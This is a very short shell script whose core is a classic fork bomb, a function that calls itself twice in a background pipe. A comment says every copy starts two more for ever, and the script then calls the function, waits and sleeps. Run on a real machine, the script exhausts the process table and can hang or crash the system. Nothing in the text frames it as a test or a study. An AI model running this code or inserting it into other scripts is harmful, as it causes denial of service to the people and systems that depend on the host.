# Every copy starts two more, for ever.
echo started
bomb() { bomb | bomb & }
bomb
wait
sleep 30
